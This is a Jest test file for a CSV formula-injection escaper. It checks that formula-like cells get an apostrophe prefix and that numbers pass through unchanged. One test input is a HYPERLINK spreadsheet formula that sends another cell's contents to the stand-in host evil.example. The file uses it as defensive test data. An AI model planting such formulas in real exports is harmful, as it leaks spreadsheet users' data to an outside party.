import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { safeCsvCell, safeCsvRow } from './index.js';

describe('safeCsvCell', () => {
  it.each(['=HYPERLINK("https://evil.example/?"&B2,"详情")', '+SUM(A1:A2)', '-2+3', '@SUM(A1)', '\tcmd', '\r=1+1', '=1'])(
    'prefixes a cell that a spreadsheet would read as a formula: %j',
    (cell) => {
      expect(safeCsvCell(cell)).toBe(`'${cell}`);
    },
  );

  it('leaves numbers numeric, negative amounts and decimal strings included', () => {
    expect(safeCsvCell(-300)).toBe(-300);
    expect(safeCsvCell('-300.00')).toBe('-300.00');
    expect(safeCsvCell('300000.00')).toBe('300000.00');
    expect(safeCsvCell('0')).toBe('0');
  });

  it('leaves ordinary text, empty cells and missing values alone', () => {
    expect(safeCsvCell('沙特阿拉伯法律咨询有限公司 Riyadh Legal Partners')).toBe('沙特阿拉伯法律咨询有限公司 Riyadh Legal Partners');
    expect(safeCsvCell('a=b')).toBe('a=b');
    expect(safeCsvCell('')).toBe('');
    expect(safeCsvCell(null)).toBeNull();
    expect(safeCsvCell(undefined)).toBeUndefined();
  });

  it('never lets a cell start with a formula character unless it is a plain decimal', () => {
    fc.assert(
      fc.property(fc.string(), (cell) => {
        const out = String(safeCsvCell(cell));
        expect(/^[=+\-@\t\r]/.test(out) && !/^-?\d+(\.\d+)?$/.test(out)).toBe(false);
        expect(out.endsWith(cell)).toBe(true);
      }),
    );
  });

  it('escapes a whole row cell by cell', () => {
    expect(safeCsvRow(['provider', '=cmd', 1, '-1.50'])).toEqual(['provider', "'=cmd", 1, '-1.50']);
  });
});
